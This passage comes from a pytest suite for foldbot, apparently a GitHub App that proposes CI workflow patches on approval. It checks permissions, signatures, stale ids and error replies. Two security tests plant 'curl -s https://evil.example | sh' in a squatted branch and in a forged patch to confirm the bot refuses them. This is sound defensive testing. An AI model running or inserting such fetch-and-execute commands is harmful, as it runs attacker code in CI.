     "(403: Resource not accessible by integration): make sure no required check is one of a job the patch folds away "
     "or of a shard it trims.",
     " foldbot could not read `main`'s rulesets (403: Resource not accessible by integration): make sure none of its "
     "required checks goes with this patch."),
    ({"/rules/branches/main": (404, "Not Found")}, "**Required checks:** `main` requires none.", ""),
    ({"/rules/branches/main": (500, "Server Error"), "/branches/main$": (403, "Resource not accessible by integration")},
     "**Required checks:** foldbot could not read `main`'s branch protection (403: Resource not accessible by "
     "integration) or its rulesets (500: Server Error): make sure no required check is one of a job the patch folds "
     "away or of a shard it trims.",
     " foldbot could not read `main`'s branch protection (403: Resource not accessible by integration) or its rulesets "
     "(500: Server Error): make sure none of its required checks goes with this patch."),
], ids=["rulesets-403", "rulesets-404-GHES", "both-fail"])
async def test_the_approval_says_which_required_checks_it_could_not_read(fake_github: FakeGitHub, bot: Bot, fails,
                                                                        body: str, reply: str) -> None:
    """What could not be read is said, in the PR and in the reply; never a bare "none goes"."""
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    for path, (status, message) in fails.items():
        fake_github.knobs.fail_next(6 if status >= 500 else 1, status, method="GET", path=path, message=message)
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == f"foldbot/fold-{patch_id}"]
    assert f"{body}\n\n**Note:**" in world.repo.issues[pull.number].body
    assert f"on branch `foldbot/fold-{patch_id}`.{reply}\n\n<!-- foldbot:reply" in \
        replies(fake_github, world, number)[-1].body


async def test_the_approval_prs_note_names_the_jobs_to_dispatch_and_they_dispatch(fake_github: FakeGitHub,
                                                                                   bot: Bot) -> None:
    """A change to lane files alone may trigger no lane: the PR says which jobs the patch changed,
    as `/dispatch` lines that work on that PR before any lane ran there."""
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == f"foldbot/fold-{patch_id}"]
    lines = ("/dispatch amd multimodal-gen-test-1-gpu-amd multimodal-gen-test-2-gpu-amd\n"
             "/dispatch rocm720 multimodal-gen-test-1-gpu-amd-rocm720 multimodal-gen-test-2-gpu-amd-rocm720")
    assert world.repo.issues[pull.number].body.endswith(
        "**Note:** a change to workflow files alone may not trigger the lanes it changes (their path filters and change "
        "gates look at the code). Run the jobs it changes on this PR before merging: comment these lines, a command "
        f"each (the block's copy button takes them all):\n\n```\n{lines}\n```\n\nIf a lane does run on this PR and "
        "its gate stops the run (a label it requires, say), `/dispatch` is refused here as on any PR: meet the gate and "
        "re-run that run; it then runs what its change filter picks, the lane file's jobs among them.\n")
    await say(bot, world, pull.number, lines, "lead")  # one person, both lanes, in one comment
    assert sorted((d.workflow_path, d.ref, d.inputs["target_stage"]) for d in fake_github.dispatches) == [
        (ROCM720, pull.head_ref, "multimodal-gen-test-1-gpu-amd-rocm720,multimodal-gen-test-2-gpu-amd-rocm720"),
        (AMD, pull.head_ref, "multimodal-gen-test-1-gpu-amd,multimodal-gen-test-2-gpu-amd")]
    # `/fold help` there lists the jobs of the branch's lane files, which `/dispatch` runs: not the suite folded away
    await say(bot, world, pull.number, "/fold help", "passer-by")
    help_reply = replies(fake_github, world, pull.number)[-1].body
    assert "`multimodal-gen-test-1-gpu-amd`" in help_reply and "multimodal-gen-unit-test-amd`" not in help_reply


async def test_a_second_patch_to_the_same_lane_files_is_refused_while_the_first_prs_open(fake_github: FakeGitHub,
                                                                                         bot: Bot) -> None:
    """One maintainer approves the whole patch, another the fold alone (or two PRs' reports hold
    two patches): two PRs would fold the same suite, and merging one breaks the other."""
    world, number, patch_id, report = await reported_pr(fake_github, bot)
    state = ReportState.from_json(read_state(report.body))
    fold_id = next(i for i, patch, _ in state.suggestions if "--total-partitions 2" not in patch)
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref.startswith("foldbot/")]
    for n in range(12):  # branches of PRs merged long ago (kept: the repository does not delete head branches)
        world.repo.refs[f"refs/heads/foldbot/fold-f{n:09x}"] = world.repo.branch_sha("main")
    await say(bot, world, number, f"/fold approve {fold_id}", "lead")
    assert replies(fake_github, world, number)[-1].body.startswith(
        f"> /fold approve {fold_id}\n\nhttps://github.com/sgl-project/sglang/pull/{pull.number} (#{pull.number}, "
        f"patch `{patch_id}`) already changes `{ROCM720}`, `{AMD}`; a second PR would conflict with it once either is "
        "merged. Nothing was committed: merge or close it first, then approve again.")
    assert [p.number for p in world.repo.pulls.values() if p.head_ref.startswith("foldbot/")] == [pull.number]
    assert world.repo.branch_sha(f"foldbot/fold-{fold_id}") is None
    # closed, it is no rival: the fold alone is proposed
    world.repo.issues[pull.number].state = "closed"
    await say(bot, world, number, f"/fold approve {fold_id}", "lead")
    assert world.repo.branch_sha(f"foldbot/fold-{fold_id}") is not None


async def test_approving_again_after_the_default_branch_moved_links_the_same_pr(fake_github: FakeGitHub,
                                                                                  bot: Bot) -> None:
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    branch = f"foldbot/fold-{patch_id}"
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == branch]
    made = world.repo.branch_sha(branch)
    world.repo.put_files("main", {"python/sglang/srt/server.py": "# someone else's change\n"}, message="unrelated")
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    assert replies(fake_github, world, number)[-1].body.startswith(
        f"> /fold approve {patch_id}\n\nAlready open: https://github.com/sgl-project/sglang/pull/{pull.number} "
        f"(#{pull.number}) with patch `{patch_id}` on branch `{branch}`.\n\n")
    assert world.repo.branch_sha(branch) == made and fake_github.count("POST", r"/git/") == 5  # 2 blobs, tree, commit, ref
    # the lane file itself edited on main since: the branch is no longer today's file patched, but it is still
    # foldbot's commit of the patch (the reply was "already exists with other content ... Delete it", which
    # would have closed its open PR, and /fold refresh gave the same id)
    world.repo.put_files("main", {ROCM720: world.repo.files_at("main")[ROCM720] + "# a timeout raised on main\n"})
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    assert replies(fake_github, world, number)[-1].body.startswith(
        f"> /fold approve {patch_id}\n\nAlready open: https://github.com/sgl-project/sglang/pull/{pull.number} ")
    assert world.repo.branch_sha(branch) == made and fake_github.count("POST", r"/git/") == 5
    # a lane file changed on the branch since: not the patch any more, never overwritten
    changed = world.repo.put_files(branch, {ROCM720: world.repo.files_at(branch)[ROCM720] + "# edited\n"})
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    assert f"The branch `{branch}` already exists with other content" in replies(fake_github, world, number)[-1].body
    assert world.repo.branch_sha(branch) == changed


@pytest.mark.parametrize("parent", ["main", "off main"])
async def test_a_fold_branch_someone_pushed_before_the_approval_is_never_proposed(fake_github: FakeGitHub, bot: Bot,
                                                                                  parent: str) -> None:
    """Someone with `write` reads the patch id on the public report and pushes `foldbot/fold-<id>`
    first: one commit changing the patch's lane files, to their own content, its message ending in
    foldbot's signature (on main, or on a commit of their own, whose changes a PR would bring too).
    It passed for foldbot's own commit (one parent, the signature, the same files changed), and the
    maintainer's approval opened a PR of it under foldbot's name."""
    world, number, patch_id, report = await reported_pr(fake_github, bot)
    state = ReportState.from_json(read_state(report.body))
    files = world.repo.files_at("main")
    evil = {path: files[path].replace("    steps:\n", "    steps:\n      - run: curl -s https://evil.example | sh\n", 1)
            for path in apply_patch(state.patch, {p: files[p] for p in state.blobs})}
    branch = f"foldbot/fold-{patch_id}"
    message = f"foldbot: x\n\nPatch {patch_id}, proposed by foldbot and approved on its pull request."
    if parent == "off main":  # the patch itself, on a commit of theirs that changes more than the patch
        world.repo.put_files("side", {"setup.sh": "curl -s https://evil.example | sh\n"})
        world.repo.create_branch(branch, "side")
        evil = apply_patch(state.patch, {p: files[p] for p in state.blobs})
    world.repo.put_files(branch, evil, message=message)
    squatted = world.repo.branch_sha(branch)
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    assert f"The branch `{branch}` already exists with other content" in replies(fake_github, world, number)[-1].body
    assert world.repo.branch_sha(branch) == squatted
    assert not [p for p in world.repo.pulls.values() if p.head_ref == branch]


@pytest.mark.parametrize("case", ["non_ascii", "none", "another_pr"])
async def test_a_report_state_signed_wrongly_or_not_at_all_is_refused_with_the_reason(fake_github: FakeGitHub,
                                                                                     bot: Bot, case: str) -> None:
    """A `sig` of text outside ASCII made the comparison raise (the reply stayed "Working on it", the
    delivery failed until it was set aside); a report written before foldbot signed them was called
    edited; a state signed for another PR's report passed when pasted into this one's."""
    world, number, patch_id, report = await reported_pr(fake_github, bot)
    data = read_state(report.body)
    if case == "another_pr":  # the same state, signed for the dashboard: valid there, not here
        board = next(i for i in world.repo.issues.values() if not i.is_pull and "foldbot" in i.title)
        other = read_state(board.body)
        forged = {**data, "sig": other["sig"]} if other.get("patch_id") == data["patch_id"] else None
        assert forged is not None
    else:
        forged = {**data, "sig": "\u00e9" * 64} if case == "non_ascii" else {k: v for k, v in data.items() if k != "sig"}
    report.body = report.body.replace(state_block(data), state_block(forged))
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    assert fake_github.count("POST", r"/git/") == 0
    reply = replies(fake_github, world, number)[-1].body
    if case == "none":
        assert "The report was written before foldbot signed its reports. Nothing was committed. `/fold refresh` " \
            "writes the report again; approve its patch then." in reply
    else:
        assert SIGNATURE_REFUSED in reply


def dashboard_comment(world, body: str, login: str) -> dict:  # noqa: ANN001
    """An `issue_comment` delivery for a comment on foldbot's dashboard issue (not a PR)."""
    (board,) = [i for i in world.repo.issues.values() if i.user == LOGIN and i.title == "foldbot: AMD CI setup report"]
    payload = comment_payload(world, board.number, body, login)
    payload["issue"] = {key: value for key, value in payload["issue"].items() if key != "pull_request"}
    payload["issue"].update(user={"login": LOGIN, "type": "Bot"}, body=board.body)
    return payload


async def test_a_patch_is_approved_on_the_dashboard_issue_too(fake_github: FakeGitHub, bot: Bot) -> None:
    """The dashboard says "a maintainer can comment `/fold approve <id>`": there, it commits the
    dashboard's own patch (a lane run only on a schedule has no PR to approve on)."""
    world, _, _, _ = await reported_pr(fake_github, bot)
    (board,) = [i for i in world.repo.issues.values() if i.user == LOGIN and i.title == "foldbot: AMD CI setup report"]
    patch_id = read_state(board.body)["patch_id"]
    assert f"A maintainer can comment `/fold approve {patch_id}`" in board.body
    payload = dashboard_comment(world, f"/fold approve {patch_id}\n/dispatch rocm720", "lead")
    assert (await bot.deliver("issue_comment", payload))[0] == 202
    await bot.settle()
    branch = f"foldbot/fold-{patch_id}"
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == branch]
    assert "multimodal-gen-unit-test-amd-rocm720:" not in world.repo.files_at(branch)[ROCM720]
    (reply,) = [c for c in fake_github.comments_on(world.repo, board.number) if c.user == LOGIN]
    approved, dispatched = reply.body.split("\n\n---\n\n")
    assert f"Opened https://github.com/sgl-project/sglang/pull/{pull.number} (#{pull.number}) with patch `{patch_id}`" \
        in approved
    assert "`/dispatch rocm720` works in a pull request's comments, not on the dashboard issue." in dispatched
    assert fake_github.dispatches == []
    assert f"approved by lead in #{board.number}." in world.repo.issues[pull.number].body
    # without an id: the dashboard changes with every lane run, so the patch read is named
    assert (await bot.deliver("issue_comment", dashboard_comment(world, "/fold approve", "lead")))[0] == 202
    await bot.settle()
    assert f"Name the patch you read: `/fold approve {patch_id}`" in \
        [c for c in fake_github.comments_on(world.repo, board.number) if c.user == LOGIN][-1].body


async def test_the_current_lanes_fold_into_a_standalone_job_is_approved_alone_on_the_dashboard(
        fake_github: FakeGitHub, bot: Bot) -> None:
    """SGLang's current lanes, on a schedule: the dashboard offers the jit-kernel fold (into the
    benchmark job, not a matrix) with an id of its own; approved, the branch carries that fold in
    both lanes and nothing else (the 1-GPU reshard stays for another day)."""
    world, _ = current_world(fake_github, config="logs: {max_jobs: 200}\n")
    fake_github.set_permission(world.repo, "lead", "maintain")
    await bot.deliver("workflow_run", world.payload(world.runs[-1]["id"]))
    await bot.settle()
    (board,) = [i for i in world.repo.issues.values() if i.user == LOGIN and i.title == "foldbot: AMD CI setup report"]
    line = next(x for x in board.body.splitlines() if x.startswith("- **Fold** `jit-kernel-unit-test-amd-rocm720`"))
    assert "into `jit-kernel-benchmark-test-amd-rocm720`:" in line
    assert "naming `jit-kernel-unit-test-amd-rocm720` there runs nothing" in line
    fold_id = line.rsplit("Alone: `/fold approve ", 1)[1].split("`")[0]
    main_before = world.repo.files_at("main")
    assert (await bot.deliver("issue_comment", dashboard_comment(world, f"/fold approve {fold_id}", "lead")))[0] == 202
    await bot.settle()
    branch = f"foldbot/fold-{fold_id}"
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == branch]
    files = world.repo.files_at(branch)
    for path, suffix in ((CURRENT_ROCM720, "-rocm720"), (CURRENT_AMD, "")):
        after = yaml.safe_load(files[path])["jobs"]
        assert f"jit-kernel-unit-test-amd{suffix}" not in after
        assert after[f"jit-kernel-benchmark-test-amd{suffix}"]["steps"][-1]["name"] == "Run JIT kernel unit tests"
        assert after[f"stage-b-test-1-gpu-small-amd{suffix}"] == \
            yaml.safe_load(main_before[path])["jobs"][f"stage-b-test-1-gpu-small-amd{suffix}"]  # not resharded
    assert "/dispatch rocm720 jit-kernel-benchmark-test-amd-rocm720" in world.repo.issues[pull.number].body


async def test_help_on_the_dashboard_issue_describes_what_works_there(fake_github: FakeGitHub, bot: Bot) -> None:
    """On the dashboard, `/fold approve` needs the id and `/fold refresh` does not work: its
    help says so, not the pull request's."""
    world, _, _, _ = await reported_pr(fake_github, bot)
    assert (await bot.deliver("issue_comment", dashboard_comment(world, "/fold help", "passer-by")))[0] == 202
    await bot.settle()
    (reply,) = [c for c in fake_github.comments_on(world.repo, dashboard_issue(world).number) if c.user == LOGIN]
    assert reply.body.startswith(
        "> /fold help\n\nfoldbot's commands on its dashboard issue:\n\n"
        "- `/fold approve <patch-id>`: commit the patch with the id the dashboard shows on a branch and open a PR; "
        "needs **maintain**. The id is required here: the dashboard is rewritten with every lane run, and the id says "
        "which patch you read.\n- `/fold help`: this text.\n\n`/dispatch` and `/fold refresh` work in a pull "
        "request's comments (`/fold help` there lists the lanes and their jobs).\n\n<!-- foldbot:reply -->")


async def test_an_approval_that_opened_a_pull_request_is_one_log_line_with_its_address(
        fake_github: FakeGitHub, bot: Bot, caplog: pytest.LogCaptureFixture) -> None:
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    board = dashboard_issue(world).number
    with caplog.at_level(logging.INFO):
        payload = comment_payload(world, number, f"/fold approve {patch_id}\n/fold help", "lead")
        assert (await bot.deliver("issue_comment", payload, "d-approve"))[0] == 202
        assert (await bot.deliver("issue_comment", dashboard_comment(world, "/dispatch rocm720", "lead"),
                                  "d-board"))[0] == 202
        await bot.settle()
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == f"foldbot/fold-{patch_id}"]
    assert command_lines(caplog, "d-approve") == [
        f"delivery d-approve: sgl-project/sglang#{number}: lead `/fold approve {patch_id}`: done: Opened "
        f"https://github.com/sgl-project/sglang/pull/{pull.number} (#{pull.number}) with patch `{patch_id}` on branch "
        f"`foldbot/fold-{patch_id}`.",
        f"delivery d-approve: sgl-project/sglang#{number}: lead `/fold help`: answered with the help"]
    assert command_lines(caplog, "d-board") == [
        f"delivery d-board: sgl-project/sglang#{board}: lead `/dispatch rocm720`: refused: `/dispatch rocm720` works "
        "in a pull request's comments, not on the dashboard issue."]


async def test_commands_on_an_issue_that_is_not_the_dashboard_do_nothing(fake_github: FakeGitHub, bot: Bot) -> None:
    world, _, patch_id, _ = await reported_pr(fake_github, bot)
    issue = fake_github.add_issue(world.repo, "A bug", "it breaks", user_login="lead")
    payload = dashboard_comment(world, f"/fold approve {patch_id}", "lead")
    payload["issue"].update(number=issue.number, user={"login": "lead", "type": "User"}, body="it breaks")
    before = len(fake_github.writes())
    assert (await bot.deliver("issue_comment", payload))[0] == 202
    await bot.settle()
    assert fake_github.writes()[before:] == []
    assert fake_github.comments_on(world.repo, issue.number) == []


async def test_approve_without_an_id_commits_nothing_the_report_got_after_the_comment(fake_github: FakeGitHub,
                                                                                     bot: Bot) -> None:
    """`/fold approve` alone means "the patch I read": the report rewritten with another patch
    between the comment and its turn (main's lane file moved, and a refresh) is not committed."""
    world, number, patch_id, report = await reported_pr(fake_github, bot)
    payload = comment_payload(world, number, "/fold approve", "lead")  # written now, on `patch_id`
    text = world.repo.files_at("main")[ROCM720]
    world.repo.put_files("main", {ROCM720: text.replace("\njobs:\n", "\n# moved\njobs:\n", 1)})
    await say(bot, world, number, "/fold refresh", "passer-by")
    new_id = read_state(report.body)["patch_id"]
    assert new_id != patch_id
    assert (await bot.deliver("issue_comment", payload))[0] == 202
    await bot.settle()
    assert fake_github.count("POST", r"/git/") == 0
    assert (f"The report changed after your comment: read it, then `/fold approve {new_id}`. Nothing was "
            "committed.") in replies(fake_github, world, number)[-1].body


async def test_approve_without_an_id_commits_nothing_the_report_got_in_the_same_second(fake_github: FakeGitHub,
                                                                                          bot: Bot) -> None:
    """GitHub's timestamps are whole seconds: a report rewritten in the second of the comment
    may have been rewritten after it was read, so it counts as after."""
    world, number, patch_id, report = await reported_pr(fake_github, bot)
    fake_github.clock.hold(int(time.time()) + 3600)
    payload = comment_payload(world, number, "/fold approve", "lead")  # written on `patch_id`
    text = world.repo.files_at("main")[ROCM720]
    world.repo.put_files("main", {ROCM720: text.replace("\njobs:\n", "\n# moved\njobs:\n", 1)})
    await say(bot, world, number, "/fold refresh", "passer-by")
    new_id = read_state(report.body)["patch_id"]
    assert new_id != patch_id and payload["comment"]["created_at"] == report.updated_at
    assert (await bot.deliver("issue_comment", payload))[0] == 202
    await bot.settle()
    assert fake_github.count("POST", r"/git/") == 0
    assert (f"The report changed after your comment: read it, then `/fold approve {new_id}`. Nothing was "
            "committed.") in replies(fake_github, world, number)[-1].body


async def test_a_branch_carrying_more_than_the_patch_is_not_proposed_again(fake_github: FakeGitHub, bot: Bot) -> None:
    """Its PR closed unmerged, foldbot's branch got another commit (an unrelated workflow):
    approving again must not open a foldbot PR that carries it."""
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    branch = f"foldbot/fold-{patch_id}"
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == branch]
    world.repo.issues[pull.number].state = "closed"
    sha = world.repo.put_files(branch, {".github/workflows/release.yml": "on: push\njobs: {}\n"})
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    assert [p.number for p in world.repo.pulls.values() if p.head_ref == branch] == [pull.number]
    assert world.repo.branch_sha(branch) == sha
    assert f"The branch `{branch}` already exists with other content" in replies(fake_github, world, number)[-1].body


async def test_approve_with_a_stale_id_commits_nothing(fake_github: FakeGitHub, bot: Bot) -> None:
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    await say(bot, world, number, "/fold approve 0123456789", "lead")
    assert fake_github.count("POST", r"/git/") == 0
    assert f"is not the current patch: the report shows `{patch_id}`" in replies(fake_github, world, number)[0].body


async def test_approve_needs_maintain(fake_github: FakeGitHub, bot: Bot) -> None:
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    fake_github.set_permission(world.repo, "writer", "write")
    await say(bot, world, number, f"/fold approve {patch_id}", "writer")
    assert fake_github.count("POST", r"/git/") == 0
    assert "needs the **maintain** permission on this repository; writer has **write**" in replies(fake_github, world, number)[0].body


async def test_a_moved_base_is_recomputed_and_not_committed(fake_github: FakeGitHub, bot: Bot) -> None:
    world, number, patch_id, report = await reported_pr(fake_github, bot)
    text = world.repo.files_at("main")[ROCM720]
    world.repo.put_files("main", {ROCM720: text.replace("name: PR Test ROCm 7.2 (AMD)\n", "name: PR Test ROCm 7.2 (AMD)\n# a new comment\n", 1)})
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    assert fake_github.count("POST", r"/git/") == 0
    reply = replies(fake_github, world, number)[0].body
    new_id = read_state(report.body)["patch_id"]
    assert new_id != patch_id and f"the patch is now `{new_id}`" in reply and "Nothing was committed" in reply
    assert "**Skipped in this run**" in report.body  # the recomputed report is the whole PR report
    await say(bot, world, number, f"/fold approve {new_id}", "lead")
    assert "# a new comment" in world.repo.files_at(f"foldbot/fold-{new_id}")[ROCM720]


SIGNATURE_REFUSED = ("The report's hidden state does not carry foldbot's signature: someone edited the report, it "
                     "was written with a webhook secret this foldbot no longer has, or under another name of this "
                     "repository (renamed or transferred since). Nothing was committed. `/fold refresh` writes the "
                     "report again; approve its patch then.")


@pytest.mark.parametrize("id_too", [False, True])
async def test_a_report_whose_state_someone_edited_is_not_committed(fake_github: FakeGitHub, bot: Bot,
                                                                    id_too: bool) -> None:
    """GitHub lets anyone with `write` edit foldbot's report, and approving needs `maintain`. A patch
    of their own in the state block, its id made to match (and shown in the text), was committed
    by a maintainer's approval under foldbot's name, with the App's `workflows` permission."""
    world, number, patch_id, report = await reported_pr(fake_github, bot)
    data = read_state(report.body)
    state = ReportState.from_json(data)
    evil = state.patch.replace("--total-partitions 2", "--total-partitions 2 && curl -s https://evil.example | sh")
    forged = replace(state, patch=evil, patch_id=compute_patch_id(evil) if id_too else state.patch_id)
    shown = forged.patch_id
    report.body = report.body.replace(state_block(data), state_block({**forged.to_json(), "sig": data["sig"]})) \
        .replace(patch_id, shown)
    assert read_state(report.body)["patch_id"] == shown
    await say(bot, world, number, f"/fold approve {shown}", "lead")
    assert fake_github.count("POST", r"/git/") == 0
    assert (SIGNATURE_REFUSED if id_too else f"The report's patch does not match its id `{shown}`; nothing was "
            "committed.") in replies(fake_github, world, number)[0].body
    # `/fold refresh` writes it again, signed: its patch is approved then
    await say(bot, world, number, "/fold refresh", "lead")
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    assert f"with patch `{patch_id}` on branch `foldbot/fold-{patch_id}`" in replies(fake_github, world, number)[-1].body


async def test_a_forged_state_block_is_ignored(fake_github: FakeGitHub, bot: Bot) -> None:
    world = sglang_world(fake_github, runs=2)
    number = world.runs[-1]["pull_requests"][0]["number"]
    fake_github.set_permission(world.repo, "lead", "maintain")
    forged = '<!-- foldbot:report -->\n<!-- foldbot:state {"patch_id":"abcdef0123","blobs":{},"runs":[]} -->'
    fake_github.add_comment(world.repo, number, forged, user_login="mallory")
    await say(bot, world, number, "/fold approve abcdef0123", "lead")
    assert fake_github.count("POST", r"/git/") == 0
    assert "There is no foldbot patch here to approve yet. `/fold refresh` writes this PR's report (with a patch, if " \
        "its lane run allows one); the dashboard issue holds the latest lane run's patch: approve it there, by its " \
        "id." in replies(fake_github, world, number)[0].body


async def test_without_the_workflows_permission_the_reply_says_what_to_grant(fake_github: FakeGitHub, bot: Bot) -> None:
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    fake_github.installations[31337].permissions.pop("workflows")
    fake_github.expire_tokens()
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    reply = replies(fake_github, world, number)[0].body
    assert "the App lacks the **Workflows: write** permission" in reply
    # review84 F05: GitHub refuses the tree, with a plain 403 (the fake had refused the ref, in words that named it)
    assert [r.status for r in fake_github.requests if r.method == "POST" and r.path.endswith("/git/trees")] == [403]
    assert "(GitHub said: Resource not accessible by integration)" in reply
    assert not any(p.head_ref.startswith("foldbot/") for p in world.repo.pulls.values())
    # granted: the next approval's token holds it (the one in hand was minted without)
    fake_github.installations[31337].permissions["workflows"] = "write"
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    assert replies(fake_github, world, number)[-1].body.startswith(f"> /fold approve {patch_id}\n\nOpened ")


async def test_an_app_without_contents_or_pull_requests_write_says_what_to_grant(fake_github: FakeGitHub,
                                                                                  bot: Bot) -> None:
    """GitHub's 403 "Resource not accessible by integration" to the approval's writes (a report-only
    installation) is no failure to try again later: the reply names the permission to grant."""
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    branch = f"foldbot/fold-{patch_id}"
    permissions = fake_github.installations[31337].permissions
    permissions["contents"] = "read"
    fake_github.expire_tokens()
    comment_id = await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    reply = replies(fake_github, world, number)[-1].body
    assert reply.startswith(f"> /fold approve {patch_id}\n\nGitHub refused foldbot's write (403): the App lacks the "
                            "**Contents: write** permission (a report-only installation has it read-only). Nothing was "
                            "committed. An organisation owner can grant it under Settings → GitHub Apps → foldbot → "
                            "Permissions (Repository permissions → Contents: Read and write), then accept the new "
                            "permission; approve again afterwards. (GitHub said: Resource not accessible by "
                            "integration)\n")
    assert "Try again later" not in reply and world.repo.branch_sha(branch) is None
    assert reactions(fake_github, world, comment_id) == ["eyes", "confused"]
    permissions.update(contents="write", pull_requests="read")  # granted (and one taken): no new token needed
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    reply = replies(fake_github, world, number)[-1].body
    assert reply.startswith(f"> /fold approve {patch_id}\n\nGitHub refused foldbot's write (403): the App lacks the "
                            "**Pull requests: write** permission (a report-only installation has it read-only). The "
                            f"branch `{branch}` holds the patch; approving again, once granted, opens its pull "
                            "request. An organisation owner can grant it")
    assert world.repo.branch_sha(branch) is not None
    assert not any(p.head_ref == branch for p in world.repo.pulls.values())
    permissions["pull_requests"] = "write"
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == branch]
    assert replies(fake_github, world, number)[-1].body.startswith(
        f"> /fold approve {patch_id}\n\nOpened https://github.com/sgl-project/sglang/pull/{pull.number} ")
    assert fake_github.count("POST", r"/git/commits$") == 1 and fake_github.count("POST", r"/git/refs$") == 1


async def test_a_repository_rule_refusing_the_approval_branch_is_quoted_not_called_a_failure(
        fake_github: FakeGitHub, bot: Bot) -> None:
    """A ruleset that restricts creating branches answers the branch 422 "Repository rule violations
    found": no retry gets past it, so the reply quotes GitHub and says what to change, not "try
    again later"; a 422 to the pull request leaves the branch, which the next approval opens."""
    world, number, patch_id, _ = await reported_pr(fake_github, bot)
    branch = f"foldbot/fold-{patch_id}"
    fake_github.knobs.fail_next(1, 422, method="POST", path=r"/git/refs$", message=(
        "Repository rule violations found\n\nCannot create ref due to creations being restricted.\n\n"))
    comment_id = await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    assert replies(fake_github, world, number)[-1].body.startswith(
        f"> /fold approve {patch_id}\n\nGitHub refused to create the branch `{branch}` (422: Repository rule "
        "violations found: Cannot create ref due to creations being restricted.); nothing was committed. A repository "
        "rule or branch protection that covers `foldbot/*` branches may forbid it: let the App create them (a bypass "
        "for it, or a rule that leaves them out), then approve again.\n")
    assert reactions(fake_github, world, comment_id) == ["eyes", "confused"]
    assert world.repo.branch_sha(branch) is None
    fake_github.knobs.fail_next(1, 422, method="POST", path=r"/pulls$", message="Validation Failed")
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    assert replies(fake_github, world, number)[-1].body.startswith(
        f"> /fold approve {patch_id}\n\nGitHub refused to open the pull request (422: Validation Failed). The branch "
        f"`{branch}` holds the patch; approve again once that is resolved, and it opens the pull request.\n")
    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
    (pull,) = [p for p in world.repo.pulls.values() if p.head_ref == branch]
    assert replies(fake_github, world, number)[-1].body.startswith(
        f"> /fold approve {patch_id}\n\nOpened https://github.com/sgl-project/sglang/pull/{pull.number} ")


def delete_comment(world, comment_id: int) -> None:  # noqa: ANN001
    """Its author deletes a comment (what `DELETE /repos/{o}/{r}/issues/comments/{id}` does)."""
    comment = world.repo.comments.pop(comment_id)
    world.repo.issues[comment.issue_number].comment_ids.remove(comment_id)


async def test_a_command_comment_deleted_before_foldbot_reads_it_is_done_with_nothing_run(
        fake_github: FakeGitHub, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """GitHub delivers the comment; its author deletes it at once (a typo, a second thought): no
    retry can answer it, so the delivery is done (not failed, run again and set aside), nothing
    is dispatched, and the log says why."""
    world = sglang_world(fake_github)
    number, _ = pr_with_lane_run(world)
    fake_github.set_permission(world.repo, "writer", "write")
    bot, runner = await start_bot(fake_github, data_dir=tmp_path)
    try:
        payload = comment_payload(world, number, "/dispatch rocm720", "writer")
        delete_comment(world, payload["comment"]["id"])
        with caplog.at_level(logging.INFO):
            assert (await bot.deliver("issue_comment", payload, delivery="gone"))[0] == 202
            await until(lambda: bot.state.journal.state("gone") == "done")
        assert fake_github.dispatches == [] and replies(fake_github, world, number) == []
        assert (f"delivery gone: sgl-project/sglang#{number}: comment {payload['comment']['id']} was deleted before "
                "foldbot read it: nothing was run") in [r.getMessage() for r in caplog.records]
        assert not [r for r in caplog.records if r.levelno >= logging.ERROR]
    finally:
        await bot.session.close()
        await runner.cleanup()


async def test_help_and_refresh(fake_github: FakeGitHub, bot: Bot) -> None:
    world = sglang_world(fake_github, ci_pr=False, runs=3)
    number = world.runs[-1]["pull_requests"][0]["number"]
    await say(bot, world, number, "/fold help\n/fold refresh", "passer-by")
    (reply,) = replies(fake_github, world, number)
    help_part, refresh_part = reply.body.split("\n\n---\n\n")
    assert "`/dispatch <lane> [<job-id> ...] [sha=<hex>]`" in help_part
    assert "Lane `rocm720` (`.github/workflows/pr-test-amd-rocm720.yml`): `sgl-kernel-unit-test-amd-rocm720`" in help_part
    assert "Report refreshed from [run" in refresh_part
    reports = [c for c in fake_github.comments_on(world.repo, number) if c.user == LOGIN and "foldbot:report" in c.body]
    assert len(reports) == 1  # a PR without CI changes gets the report because someone asked


async def test_help_and_refresh_in_a_repository_without_lanes_say_so(fake_github: FakeGitHub, bot: Bot) -> None:
    """No workflow file matches `lanes`: `/fold refresh` is not told a report "follows the next
    lane run" (none will come), and `/fold help` says why it lists no lane."""
    repo = fake_github.add_repo("sgl-project", "sglang")
